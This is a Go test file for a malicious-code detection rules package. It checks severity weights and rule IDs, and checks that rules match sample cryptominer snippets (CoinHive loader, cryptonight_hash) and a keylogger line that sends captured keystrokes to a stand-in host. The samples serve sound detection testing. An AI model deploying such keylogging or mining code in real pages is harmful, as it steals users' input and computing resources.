package rules

import "testing"

func TestSeverityWeight(t *testing.T) {
	tests := []struct {
		sev    Severity
		weight float64
	}{
		{SeverityLow, 0.2},
		{SeverityMedium, 0.5},
		{SeverityHigh, 0.8},
		{SeverityCritical, 1.0},
		{Severity("bogus"), 0.0},
	}
	for _, tc := range tests {
		if got := tc.sev.Weight(); got != tc.weight {
			t.Errorf("%s: expected weight %v, got %v", tc.sev, tc.weight, got)
		}
	}
}

func TestCatalog_UniqueIDs(t *testing.T) {
	seen := make(map[string]bool)
	for _, r := range Catalog() {
		if seen[r.ID] {
			t.Errorf("duplicate rule id %s", r.ID)
		}
		seen[r.ID] = true
		if r.Expr == nil {
			t.Errorf("rule %s has no compiled expression", r.ID)
		}
	}
}

func TestCatalog_MinerRuleMatches(t *testing.T) {
	snippets := []string{
		`var miner = new CoinHive.Anonymous('SITE_KEY');`,
		`importScripts('https://coinhive.com/lib/coinhive.min.js')`,
		`cryptonight_hash(input)`,
	}
	for _, code := range snippets {
		matched := false
		for _, r := range Catalog() {
			if r.Category == CategoryCryptomining && r.Matches(code) {
				matched = true
				break
			}
		}
		if !matched {
			t.Errorf("expected a cryptomining rule to match %q", code)
		}
	}
}

func TestCatalog_KeyloggerRuleMatches(t *testing.T) {
	code := `document.addEventListener("keydown", function(e){ buf.push(e.key); fetch("https://x.example/log?k="+buf) });`
	matched := false
	for _, r := range Catalog() {
		if r.Category == CategoryKeylogger && r.Matches(code) {
			matched = true
			break
		}
	}
	if !matched {
		t.Error("expected a keylogger rule to match keystroke-capture-and-send code")
	}
}

func TestInterceptCatalog_ExcludesLowTier(t *testing.T) {
	for _, r := range InterceptCatalog() {
		if r.Severity == SeverityLow {
			t.Errorf("rule %s: low severity must not be in the interceptor subset", r.ID)
		}
	}
	if len(InterceptCatalog()) == 0 {
		t.Fatal("interceptor subset is empty")
	}
}

func TestByID(t *testing.T) {
	if r := ByID("mine-001"); r == nil || r.Category != CategoryCryptomining {
		t.Error("expected mine-001 to resolve to a cryptomining rule")
	}
	if r := ByID("nope"); r != nil {
		t.Error("expected nil for unknown rule id")
	}
}

func TestMaxSeverity(t *testing.T) {
	tests := []struct {
		name       string
		indicators []Indicator
		want       Severity
	}{
		{"empty", nil, SeverityLow},
		{"single", []Indicator{{Severity: SeverityMedium}}, SeverityMedium},
		{
			"critical wins",
			[]Indicator{{Severity: SeverityLow}, {Severity: SeverityCritical}, {Severity: SeverityHigh}},
			SeverityCritical,
		},
		{
			"high over medium",
			[]Indicator{{Severity: SeverityMedium}, {Severity: SeverityHigh}},
			SeverityHigh,
		},
	}
	for _, tc := range tests {
		if got := MaxSeverity(tc.indicators); got != tc.want {
			t.Errorf("%s: expected %s, got %s", tc.name, tc.want, got)
		}
	}
}
